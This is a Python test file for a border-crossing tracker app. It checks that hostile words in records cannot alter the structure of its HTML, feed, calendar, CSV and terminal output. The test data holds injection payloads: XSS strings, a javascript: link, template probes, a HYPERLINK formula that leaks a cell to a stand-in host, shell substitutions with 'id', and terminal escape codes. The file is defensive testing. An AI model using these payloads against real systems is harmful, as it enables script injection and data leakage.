"""Words are words: whatever stands in a text, no output gets another structure by it.

One small record is served and printed twice, once with words that try to break out of every format that we write, and
once with harmless ones. Both must come out the same but for the words.
"""

import csv
import io
import re
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from html.parser import HTMLParser
from pathlib import Path
from typing import NamedTuple
from xml.etree import ElementTree as xml

import httpx
import pytest
from icalendar import Calendar

from tests.api.conftest import running
from tests.cli.conftest import Run, run
from tests.cli.test_process import on_a_terminal
from tracker import serve
from tracker.dataset.reader import read_statement
from tracker.services import records
from tracker.settings import Settings

HARMLESS = "words"
ATTACKS = {
    "a spreadsheet": "=HYPERLINK(\"https://x/?\"&A1,\"+1\")",
    "a page": "</title></script><script>alert(1)</script><img src=x onerror=alert(1)>\" onmouseover=\"alert(1)",
    "an attribute": "' autofocus onfocus='alert(1)",
    "a template": "{{7*7}}{% raw %}${7*7}",
    "a link": "[here](javascript:alert(1)) `<b>` **<i>**",
    "a feed": "]]></summary><entry/><!-- &amp; &#60; &nosuch; <?xml?>",
    "a calendar": "x\nEND:VEVENT\nBEGIN:VEVENT;X=\"a:b\",c\\,\\n",
    "a long line": "ü" * 600,
    "a terminal": "[bold red]x[/] [link=https://x]y[/link] :smile: \\x1b[2J",
    "a shell": "$(id) `id` ; id | id",
    "a log": "x\n2031-01-01 00:00:00Z AnnouncementRecorded forged",
}  # fmt: skip
REGISTRY = """
[dataset]
name = WORDS
timezone = "+04:00"
licence = WORDS
contact = WORDS
[party]
AM = { name = WORDS, kind = "state", note = PROSE }
TR = { name = "Turkey", kind = "state", aliases = [WORDS] }
[territory]
AM = { name = WORDS, authority = "AM" }
TR = { name = "Turkey", authority = "TR" }
[border.AM-TR]
between = ["AM", "TR"]
crossings = "some"
modes = ["road"]
name = WORDS
[crossing.gate]
border = "AM-TR"
modes = ["road"]
names = { en = WORDS }
location = [44.18, 40.03]
note = PROSE
[corridor.way]
name = WORDS
path = ["TR", "gate", "AM"]
modes = ["road"]
[measure.ban]
title = WORDS
authority = "TR"
kind = "restriction"
level = "prohibited"
scope = { at = ["AM-TR"], only = [WORDS] }
[instrument.text]
title = WORDS
"""
SAID = """
announced = 2025-01-01
summary = PROSE
note = PROSE
by = [{ party = "TR", name = WORDS, office = WORDS }]
source = [{ publisher = WORDS, title = WORDS, url = "https://example.org/?", note = PROSE }]
[[effect]]
type = "impose"
measure = "ban"
only = [WORDS]
note = PROSE
last_day = 2031-02-01
[[effect]]
type = "pledge"
pledge = "promise"
kind = "promise"
parties = ["TR"]
at = ["AM-TR"]
text = WORDS
due = 2031-02-01
[[effect]]
type = "stage"
instrument = "text"
stage = "signed"
[[effect]]
type = "passage"
at = "gate"
mode = "road"
traffic = "goods"
direction = "AM>TR"
cargo = WORDS
"""
CORRECTED = """
corrects = "said"
announced = 2025-01-03
reason = PROSE
replace = { note = PROSE }
"""
DAY = "as_of=2025-06-01"
PAGES = (
    f"/?{DAY}", f"/?view=timelines&{DAY}", f"/?view=table&{DAY}", f"/?subject=AM-TR&{DAY}", f"/subjects?{DAY}",
    f"/subjects/gate?{DAY}", f"/subjects/ban?{DAY}", f"/announcements?{DAY}", f"/announcements/said?{DAY}",
    f"/promises?{DAY}", f"/difference?before_as_of=2024-01-01&{DAY}", f"/routes?from=TR&to=AM&{DAY}", "/about",
)  # fmt: skip
COMMANDS = (
    ("state",), ("why", "way"), ("history", "gate"), ("diff", "2024-01-01", "2025-06-01"), ("announcements",),
    ("show", "said"), ("promises",), ("replay", "--from", "2024-12-01", "--to", "2025-02-01"),
    ("routes", "TR", "AM", "--mode", "road"),
)  # fmt: skip
TABLES = ("state", "announcements", "promises", "passages", "changes", "subjects", "series?subject=gate")


def toml(words: str) -> str:
    """A basic string of TOML."""
    return '"' + words.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def write(folder: Path, words: str) -> Path:
    for name, text in {"registry/all": REGISTRY, "2025/said": SAID, "2025/corrected": CORRECTED}.items():
        path = folder / f"{name}.toml"
        path.parent.mkdir(parents=True, exist_ok=True)
        line = words.replace("\n", " ")
        path.write_text(text.replace("WORDS", toml(line)).replace("PROSE", toml(words)), encoding="utf-8")
    return folder


class Twin(NamedTuple):
    """One of the two records."""

    events: Path
    client: httpx.Client

    def page(self, path: str) -> httpx.Response:
        answer = self.client.get(path)
        assert answer.status_code == 200, f"{path}: {answer.text}"
        return answer


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[str], Twin]]:
    """Serves a record with some words, once."""
    with ExitStack() as stack:
        found: dict[str, Twin] = {}

        def serving(words: str) -> Twin:
            if words not in found:
                folder = tmp_path_factory.mktemp("twin")
                store = str(folder / "store.sqlite")
                records.load(store, write(folder / "events", words))
                client = stack.enter_context(
                    running(serve.create(Settings(store=store, access_log=False, read_rate=0)))
                )
                found[words] = Twin(folder / "events", client)
            return found[words]

        yield serving


class Shape(HTMLParser):
    """A page without its words: its tags, with the names of their attributes, and where its links lead."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, ...]] = []
        self.schemes: set[str] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, *(name for name, _ in attrs)))
        self.schemes |= {(value or "").partition(":")[0] for name, value in attrs if name in ("href", "src", "action")}


def attacks(*names: str) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("words", [pytest.param(ATTACKS[name], id=name) for name in names])


@attacks("a page", "an attribute", "a template", "a link")
def test_law_a_page_has_the_same_tags_whatever_the_words(served: Callable[[str], Twin], words: str) -> None:
    for path in PAGES:
        plain, hostile = (Shape(served(each).page(path).text) for each in (HARMLESS, words))
        assert hostile.tags == plain.tags, path
        assert not {"javascript", "data"} & hostile.schemes, path


@attacks("a page", "a feed", "a log")
def test_law_a_feed_has_the_same_elements_whatever_the_words(served: Callable[[str], Twin], words: str) -> None:
    plain, hostile = (
        xml.fromstring(served(each).page(f"/api/v1/feed.atom?{DAY}").content) for each in (HARMLESS, words)
    )
    assert [each.tag for each in hostile.iter()] == [each.tag for each in plain.iter()]
    shown = "".join(hostile.itertext())
    assert words in shown


@attacks("a calendar", "a long line", "a log")
def test_law_a_calendar_has_the_same_properties_whatever_the_words(served: Callable[[str], Twin], words: str) -> None:
    raw = {each: served(each).page(f"/api/v1/calendar.ics?{DAY}").content for each in (HARMLESS, words)}
    names = {each: [re.split(rb"[;:]", line, maxsplit=1)[0] for line in _unfolded(text)] for each, text in raw.items()}
    assert names[words] == names[HARMLESS]
    assert all(len(line) <= 75 for line in raw[words].split(b"\r\n"))
    assert b"\n" not in raw[words].replace(b"\r\n", b"")
    raw[words].decode("utf-8")
    events = Calendar.from_ical(raw[words]).walk("VEVENT")
    line = words.replace("\n", " ")
    assert any(line in str(event["summary"]) or line in str(event["description"]) for event in events)


def _unfolded(text: bytes) -> list[bytes]:
    return text.replace(b"\r\n ", b"").split(b"\r\n")


@attacks("a spreadsheet", "a log")
def test_law_a_table_has_the_same_cells_whatever_the_words(served: Callable[[str], Twin], words: str) -> None:
    for table in TABLES:
        path = f"/api/v1/{table}{'&' if '?' in table else '?'}format=csv"
        plain, hostile = (
            list(csv.reader(io.StringIO(served(each).page(path).text, newline=""))) for each in (HARMLESS, words)
        )
        assert [len(row) for row in hostile] == [len(row) for row in plain], path
        cells = [cell for row in hostile for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))], path


@attacks("a log")
def test_law_lines_of_json_are_as_many_whatever_the_words(served: Callable[[str], Twin], words: str) -> None:
    for path in ("/api/v1/announcements?format=ndjson", "/api/v1/changes?format=ndjson"):
        plain, hostile = (served(each).page(path).text for each in (HARMLESS, words))
        assert len(hostile.splitlines()) == len(plain.splitlines())


@attacks("a terminal", "a shell", "a log")
def test_what_is_printed_moves_no_cursor(tmp_path: Path, words: str) -> None:
    events = write(tmp_path / "events", words)
    asked: Run = lambda *args: run("--events", str(events), *args)  # noqa: E731
    for command in COMMANDS:
        ran = asked(*command)
        assert ran.code == 0, ran.err
        assert all(char.isprintable() or char == "\n" for char in ran.out + ran.err), command


def test_a_terminal_is_coloured_by_us_alone(tmp_path: Path) -> None:
    events = write(tmp_path / "events", ATTACKS["a terminal"])
    for command in (("state",), ("show", "said")):
        shown = on_a_terminal(["--events", str(events), *command])
        assert b"[bold red]" in shown  # as it was written
        assert re.sub(rb"\x1b\[[0-9;]*m", b"", shown).count(b"\x1b") == 0  # colours only: no links, no moves


HIDDEN = ["\x1b[2J", "\x07", "\x9b31m", "\x00", "\r", "\x7f", "\u202e", "\u2066", "\u2028", "\ue000", "\uffff"]


@pytest.mark.parametrize("char", HIDDEN, ids=ascii)
def test_what_controls_reorders_or_hides_is_refused_at_the_door(tmp_path: Path, char: str) -> None:
    escaped = "".join(f"\\u{ord(each):04x}" for each in char)
    source = f'source = [{{ publisher = "a", url = "https://x/{escaped}" }}]'
    for text in (f'summary = "a{escaped}b"', f'note = "a{escaped}b"', source):
        (tmp_path / "said.toml").write_text(f"announced = 2025-01-01\n{text}", encoding="utf-8")
        statement, problems = read_statement(tmp_path / "said.toml")
        assert statement is None
        [said] = [str(problem) for problem in problems if "said.toml:2: " in str(problem)]
        assert said.isprintable()


def test_other_scripts_and_their_marks_are_welcome(tmp_path: Path) -> None:
    for words in ("Հայաստան", "مرز بازرگان‌ها", "საქართველო", "e\u0301", "👩‍👩‍👧", "\u200fשלום\u200e"):
        text = f"announced = 2025-01-01\nby = [{{ party = \"AM\" }}]\nsummary = '{words}'"
        (tmp_path / "said.toml").write_text(text, encoding="utf-8")
        assert read_statement(tmp_path / "said.toml")[1] == (), words
